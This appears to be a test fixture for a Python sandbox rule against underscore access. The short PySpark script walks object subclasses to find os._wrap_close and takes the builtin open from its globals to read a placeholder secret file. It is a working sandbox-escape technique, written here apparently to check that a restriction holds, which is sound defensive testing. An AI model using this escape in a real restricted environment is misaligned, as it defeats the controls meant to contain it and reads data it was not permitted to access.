# attack: python
# rule: underscore-access
# goal: Find a file class among all classes. It is reached when REACHED is printed.
from pyspark.sql import SparkSession, functions as F

spark = SparkSession.builder.appName("attack").getOrCreate()

for found in ().__class__.__base__.__subclasses__():
    if found.__name__ == '_wrap_close':
        if found.__init__.__globals__['open']('ATTACK_SECRET', 0):
            print('REACHED')

result = spark.range(1)
result.write.mode("overwrite").parquet("ATTACK_OUTPUT")
